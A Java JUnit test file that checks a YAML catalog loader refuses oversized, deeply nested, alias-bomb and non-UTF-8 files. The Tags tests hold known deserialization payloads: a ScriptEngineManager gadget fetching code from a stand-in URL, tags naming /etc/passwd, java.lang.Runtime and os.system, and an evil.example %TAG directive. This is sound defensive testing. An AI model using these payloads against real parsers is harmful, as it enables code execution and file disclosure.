package io.frameworkadvisor.store.files;

import static io.frameworkadvisor.store.files.Fixture.problem;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Files that are small to write and large to read, or mean more to a parser than data: refused, in few words. */
class CatalogBombsTests {

    private static final String WHOLE = "catalog/catalog.yml";
    private static final String ALPHA = "catalog/frameworks/alpha.yml";
    private static final int LARGEST = 1_000_000;

    /** More than anybody reads. */
    private static final int FEW = Problems.MOST + 1;

    @TempDir
    private Path folder;

    private Fixture given() {
        return Fixture.validIn(folder);
    }

    private List<CatalogProblem> problemsOf(String content) {
        List<CatalogProblem> problems = given().with(ALPHA, content).problems();
        assertThat(problems).isNotEmpty().hasSizeLessThanOrEqualTo(FEW);
        assertThat(problems)
                .allMatch(it -> it.file().equals(ALPHA)
                        && it.path().length() + it.reason().length() < 3 * Problems.LONGEST);
        return problems;
    }

    @Nested
    class Size {

        @Test
        void ofAFileIsLookedAtBeforeItIsRead() {
            assertThat(problemsOf("x".repeat(10 * LARGEST)))
                    .satisfiesExactly(problem(ALPHA, "/", "more than the allowed 1000000"));
        }

        @Test
        void ofAFileIsLookedAtEvenIfItIsOnlyHashed() {
            Fixture catalog = given().with(ALPHA, "x".repeat(10 * LARGEST));

            assertThat(catalog.problemsOfId()).satisfiesExactly(problem(ALPHA, "/", "more than the allowed 1000000"));
        }

        @ParameterizedTest
        @ValueSource(strings = {"[", "{", "{a: ", "- ", "? ", "[{a: ", "!!seq [", "&a [", "- - "})
        void ofNestingIsLimited(String opening) {
            problemsOf(opening.repeat(99_000 / opening.length() * 10));
        }

        @Test
        void ofALineIsNotLimitedAndItsTextIsHeldAgainstTheSchema() {
            problemsOf("slug: " + "x".repeat(LARGEST - 100));
        }

        @Test
        void ofAKeyIsLimited() {
            problemsOf("x".repeat(LARGEST - 100) + ": 1");
        }
    }

    @Nested
    class Figure {

        @ParameterizedTest
        @ValueSource(
                strings = {"1e400", "-1e400", "1e999999999", "1e-999999999", ".inf", ".nan", "0x7fffffffffffffffffff"})
        void thatIsNoneOfOursIsRefused(String number) {
            assertThat(given().changing(ALPHA, text -> text.replaceFirst("oldest: \\d+", "oldest: " + number))
                            .problems())
                    .isNotEmpty()
                    .allMatch(it -> it.file().equals(ALPHA));
        }

        @Test
        void ofManyDigitsIsRefused() {
            problemsOf("python: {oldest: " + "9".repeat(LARGEST - 100) + "}");
        }
    }

    @Nested
    class Repetition {

        @Test
        void ofMistakesIsReportedInFewWords() {
            problemsOf("[" + "1,".repeat(LARGEST / 3) + "1]");
            problemsOf("sources: {x: {at: [" + "1,".repeat(LARGEST / 3) + "1]}}");
            problemsOf("strengths: [" + "1,".repeat(LARGEST / 3) + "1]");
        }

        @Test
        void ofAliasesIsReportedInFewWords() {
            problemsOf("a: &a 1\nb: [" + "*a ,".repeat(LARGEST / 5) + "*a ]");
        }

        @Test
        void ofKeysIsReportedInFewWords() {
            problemsOf(
                    IntStream.range(0, 90_000).mapToObj(it -> "k" + it + ": 1").collect(Collectors.joining("\n")));
        }

        @Test
        void ofAnchorsThatNobodyUsesIsReportedInFewWords() {
            problemsOf(IntStream.range(0, 50_000)
                    .mapToObj(it -> "- &a" + it + " 1")
                    .collect(Collectors.joining("\n")));
        }

        @Test
        void byMergingIsNotFollowed() {
            assertThat(given().with(WHOLE, """
                                    a: &a {x: lol}
                                    b: &b {<<: [*a, *a, *a, *a]}
                                    c: {<<: [*b, *b, *b, *b]}
                                    """).problems())
                    .first()
                    .satisfies(problem(WHOLE, "line 2", "aliases are not allowed: *a"));
        }
    }

    @Nested
    class Tags {

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://x/']]]]",
                    "!!java.io.File [/etc/passwd]",
                    "!<tag:yaml.org,2002:java.lang.Runtime> {}",
                    "!!python/object/apply:os.system [id]",
                    "!!binary aGVsbG8=",
                    "!!set {a, b}",
                    "!!omap [a: 1]",
                    "!x Alpha",
                    "!!int Alpha"
                })
        void makeNothingButDataOfAFile(String tagged) {
            assertThat(given().replacing(ALPHA, "name: Alpha", "name: " + tagged)
                            .problems())
                    .isNotEmpty()
                    .allMatch(it -> it.file().equals(ALPHA));
        }

        @Test
        void ofDirectivesChangeNothing() {
            assertThat(given().changing(
                                    ALPHA,
                                    text -> "%TAG ! tag:evil.example,2000:\n---\n"
                                            + text.replace("name: Alpha", "name: !x Alpha"))
                            .problems())
                    .isNotEmpty()
                    .allMatch(it -> it.file().equals(ALPHA));
        }
    }

    @Nested
    class Bytes {

        @Test
        void thatAreNoUtf8AreRefused() {
            assertThat(given().withBytes(ALPHA, new byte[] {'n', 'a', 'm', 'e', ':', ' ', (byte) 0xc3, (byte) 0x28})
                            .problems())
                    .satisfiesExactly(problem(ALPHA, "/", "not UTF-8 from byte 6 on"));
        }
    }
}
